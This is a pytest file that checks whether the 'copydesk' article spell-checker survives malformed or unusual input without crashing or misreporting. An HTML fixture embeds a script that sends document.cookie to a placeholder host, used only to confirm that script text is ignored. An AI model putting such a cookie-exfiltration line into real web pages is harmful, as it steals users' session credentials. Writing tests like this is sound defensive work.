"""Bad input, one case per kind, all in one place (issue 7): copydesk runs unattended on
repositories it does not control, so no input may stop it or make it lie.

Every case adds its input to a folder of good articles that hold a known misspelling and
runs `copydesk check` over the whole folder. Each asserts the same four things: every
message is one line naming the file (the line too where there is one), the good
articles' findings are still reported, there is no traceback, and the exit code is the
contract's (1 here: the good articles' errors). Inputs that are not bad, only unusual
(UTF-16, scripts in HTML, invisible characters, other scripts), must give no message and
the right findings.
"""
from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from spacy.language import Language

from conftest import ARTICLES, position, write
from test_cli import csv_rows, run, session_model  # noqa: F401 (session_model: the CLI gets the loaded model)

Row = tuple[str, ...]
BASE_ROWS: set[Row] = {
    ("name-variant", "error", "articles/dockers/dockers-4.txt", "3", "1", "Marta Kowalczik", "Marta Kowalczyk"),
    ("name-variant", "error", "articles/dockers/dockers-4.txt", "4", "38", "Kowalczik", "Kowalczyk"),
    ("name-variant", "error", "articles/dockers/dockers-4.txt", "5", "1", "Kowalczik", "Kowalczyk"),
}
PROGRESS = "copydesk: extracted "  # progress lines of long runs (a tenth of the way each)


@dataclass
class Case:
    make: Callable[[Path], None]  # writes the input into the articles folder
    messages: list[tuple[str, ...]] = field(default_factory=list)  # each: words one stderr line holds
    rows: Callable[[Path], set[Row]] = lambda folder: set()  # findings the input adds


def misspelt(row_file: str, line: int, column: int, found: str = "Marta Kowalczik") -> Row:
    return ("name-variant", "error", f"articles/{row_file}", str(line), str(column), found, "Marta Kowalczyk")


STORY = "Marta Kowalczik met Tomasz Nowak of the Baltic Dockers Union and Northline Ferries."


def binary(folder: Path) -> None:
    (folder / "scan.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00")


def latin1(folder: Path) -> None:
    (folder / "old.txt").write_bytes(f"Dockers\n{STORY} Caf\xe9 owners agreed.\n".encode("latin-1"))


def utf16(folder: Path) -> None:
    (folder / "utf16.txt").write_bytes(f"Dockers vote\n\n{STORY}\n".encode("utf-16"))  # with its BOM


def empty(folder: Path) -> None:
    (folder / "empty.txt").write_bytes(b"")


def fifty_megabytes(folder: Path) -> None:
    with (folder / "huge.txt").open("wb") as fh:  # sparse: costs no disk and no time
        fh.truncate(50 * 1024 * 1024)


LONG_LINE = "x" * (1024 * 1024)  # a 1 MB run without a space: a pasted blob, a minified page


def one_megabyte_line(folder: Path) -> None:
    write(folder, "long-line.txt", f"{LONG_LINE} {STORY}\n")


def symlink_loops(folder: Path) -> None:
    os.symlink("loop-b.txt", folder / "loop-a.txt")
    os.symlink("loop-a.txt", folder / "loop-b.txt")
    os.symlink("..", folder / "dockers" / "up")  # a folder link back to the top


def unreadable(folder: Path) -> None:
    write(folder, "locked.txt", STORY + "\n").chmod(0)


def ten_thousand_files(folder: Path) -> None:
    bulk = folder / "bulk"
    bulk.mkdir()
    for i in range(10_000):
        (bulk / f"note-{i:05d}.txt").write_text(f"Note {i}.\n", encoding="utf-8")


def malformed_front_matter(folder: Path) -> None:
    # the list opened on line 2 is found unclosed on line 3, where YAML places the error
    write(folder, "bad.md", f"---\ntitle: [unclosed\ndate: 2024-05-04\n---\n{STORY}\n")


HTML_WITH_SCRIPTS = f"""<!doctype html>
<html><head><title>Dockers</title>
<script>document.write("Marta Kowalzcyk"); fetch("https://example.invalid/" + document.cookie);</script>
</head>
<body onload="alert('Marta Kowalzcyk')">
<script>var who = "Marta Kowalzcyk";</script>
<p>{STORY}</p>
<noscript>Marta Kowalzcyk</noscript>
</body></html>
"""


def html_with_scripts(folder: Path) -> None:
    write(folder, "page.html", HTML_WITH_SCRIPTS)


def invisible_characters(folder: Path) -> None:
    # a zero-width space inside a misspelt name, a right-to-left mark inside a right one
    write(folder, "invisible.txt",
          "Dockers\n\nMarta Kowal\u200bczik met the Baltic Dockers Union.\nTomasz No\u200fwak of Northline Ferries agreed.\n")


def other_scripts(folder: Path) -> None:
    # anyascii would make "Зеленский" "zelenskiy", one letter from "Zelensky"
    write(folder, "world.txt",
          "Talks\n\nVladimir Zelensky, written Владимир Зеленский in Russian, met 习近平 (Xi Jinping).\n"
          "Marta Kowalczyk of the Baltic Dockers Union welcomed Марта Ковальчик and Tomasz Nowak.\n")


CASES: dict[str, Case] = {
    "binary file": Case(binary, [("skipped", "articles/scan.txt:", "binary file")]),
    "latin-1 text": Case(latin1, [("skipped", "articles/old.txt:", "not UTF-8", "line 2")]),
    "utf-16 with BOM": Case(utf16, rows=lambda f: {misspelt("utf16.txt", 3, 1)}),
    "empty file": Case(empty, [("warning", "articles/empty.txt:", "no text to check")]),
    "50 MB article": Case(fifty_megabytes, [("skipped", "articles/huge.txt:", "larger than 2 MB (50 MB)")]),
    "1 MB single line": Case(one_megabyte_line, rows=lambda f: {misspelt("long-line.txt", 1, len(LONG_LINE) + 2)}),
    "symlink loop": Case(symlink_loops, [
        ("skipped", "articles/loop-a.txt:", "symbolic link loop"),
        ("skipped", "articles/loop-b.txt:", "symbolic link loop"),
        ("skipped", "articles/dockers/up:", "a loop"),
    ]),
    "10,000 files": Case(ten_thousand_files),
    "malformed front matter": Case(malformed_front_matter, [("skipped", "articles/bad.md:3:", "bad front matter")]),
    "HTML with scripts": Case(html_with_scripts, rows=lambda f: {
        misspelt("page.html", *position(f / "page.html", "Marta Kowalczik"))
    }),
    "zero-width and bidi characters": Case(invisible_characters, rows=lambda f: {
        misspelt("invisible.txt", 3, 1, found="Marta Kowal\u200bczik")
    }),
    "Cyrillic and Chinese names": Case(other_scripts),
}


@pytest.fixture
def articles(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    shutil.copytree(ARTICLES / "misspelt-in-one-article", tmp_path / "articles" / "dockers")
    monkeypatch.chdir(tmp_path)
    return tmp_path / "articles"


def assert_contract(code: int, err: str, report: Path, case: Case, folder: Path) -> None:
    assert "Traceback" not in err, err
    lines = [ln for ln in err.splitlines() if ln and not ln.startswith(PROGRESS)]
    assert all(ln.startswith("copydesk: ") for ln in lines), lines
    for words in case.messages:  # one line per message, naming the file
        assert sum(all(w in ln for w in words) for ln in lines) == 1, (words, lines)
    assert len(lines) == len(case.messages), lines  # nothing else: no per-file noise
    header, rows = csv_rows(report)
    assert rows == BASE_ROWS | case.rows(folder)  # the good articles are still checked
    assert code == 1


@pytest.mark.parametrize("name", [n for n in CASES if n != "unreadable file"])
def test_bad_input_is_reported_in_one_line_and_the_others_are_checked(
    articles: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    case = CASES[name]
    case.make(articles)
    code, _, err = run(capsys, "articles", "-o", "r.csv", "--no-cache")
    assert_contract(code, err, articles.parent / "r.csv", case, articles)


def _without_root_powers() -> list[str]:
    """A command prefix under which file permissions hold: root reads a chmod 000 file,
    so as root the check runs without the capabilities that let it (setpriv)."""
    if os.geteuid() != 0:
        return []
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("running as root without setpriv: a chmod 000 file stays readable")
    return [setpriv, "--bounding-set=-dac_override,-dac_read_search"]


def test_unreadable_file_is_reported_in_one_line_and_the_others_are_checked(articles: Path) -> None:
    case = Case(unreadable, [("skipped", "articles/locked.txt:", "cannot read: permission denied")])
    case.make(articles)
    done = subprocess.run(
        [*_without_root_powers(), sys.executable, "-m", "copydesk", "check", "articles", "-o", "r.csv", "--no-cache", "-q"],
        cwd=articles.parent, capture_output=True, text=True, timeout=300,
    )
    assert_contract(done.returncode, done.stderr, articles.parent / "r.csv", case, articles)


def test_script_text_in_html_is_neither_extracted_nor_reported(articles: Path, capsys: pytest.CaptureFixture[str]) -> None:
    html_with_scripts(articles)
    run(capsys, "articles", "-o", "r.csv", "--no-cache")
    report = (articles.parent / "r.csv").read_text(encoding="utf-8")
    assert "Kowalzcyk" not in report and "cookie" not in report
    assert "articles/page.html" in report  # the page's own text is checked


def test_the_size_limit_is_a_setting_and_a_file_at_the_limit_is_read(
    articles: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write(articles.parent / "house", "limits.yaml", "settings:\n  max_article_mb: 0.001\n")  # 1,048 bytes
    body = f"Dockers\n\n{STORY}\n"
    write(articles, "at-limit.txt", body + "x" * (1048 - len(body.encode()) - 1) + "\n")
    write(articles, "over-limit.txt", body + "x" * (1048 - len(body.encode())) + "\n")
    assert (articles / "at-limit.txt").stat().st_size == 1048
    code, _, err = run(capsys, "articles", "-o", "r.csv", "--no-cache", "--rules", "house")
    assert err == "copydesk: skipped articles/over-limit.txt: larger than 1,048 bytes (1,049 bytes): not an article (settings.max_article_mb)\n"
    _, rows = csv_rows(articles.parent / "r.csv")
    assert misspelt("at-limit.txt", 3, 1) in rows and not any("over-limit" in r[2] for r in rows)


# -- an article the analysis fails on ------------------------------------------------------

FAILS = Case(lambda folder: write(folder, "bad.txt", f"Dockers\n\nDETONATE {STORY}\n"),
             [("skipped", "articles/bad.txt:", "names could not be extracted", "RuntimeError")])


def test_an_article_spacy_fails_on_is_skipped_and_the_others_are_checked(
    articles: Path, capsys: pytest.CaptureFixture[str], nlp: Language
) -> None:
    """A failure inside spaCy's batch: the batch is redone one article at a time, so only
    the article it fails on is skipped."""
    from spacy.language import Language

    name = "copydesk_test_detonator"
    if name not in Language.factories:
        @Language.component(name)
        def detonate(doc):  # type: ignore[no-untyped-def]
            if "DETONATE" in doc.text:
                raise RuntimeError("a component failed on this text")
            return doc

    FAILS.make(articles)
    nlp.add_pipe(name, last=True)
    try:
        code, _, err = run(capsys, "articles", "-o", "r.csv", "--no-cache")
    finally:
        nlp.remove_pipe(name)
    assert_contract(code, err, articles.parent / "r.csv", FAILS, articles)


def test_an_article_copydesk_fails_on_is_skipped_and_the_others_are_checked(
    articles: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from copydesk.extract import Extractor

    real = Extractor.mentions

    def mentions(self, article, doc):  # type: ignore[no-untyped-def]
        if "DETONATE" in article.text:
            raise RuntimeError("a pattern failed on this text\nsecond line")
        return real(self, article, doc)

    monkeypatch.setattr(Extractor, "mentions", mentions)
    FAILS.make(articles)
    code, _, err = run(capsys, "articles", "-o", "r.csv", "--no-cache")
    assert_contract(code, err, articles.parent / "r.csv", FAILS, articles)
    assert "second line" not in err
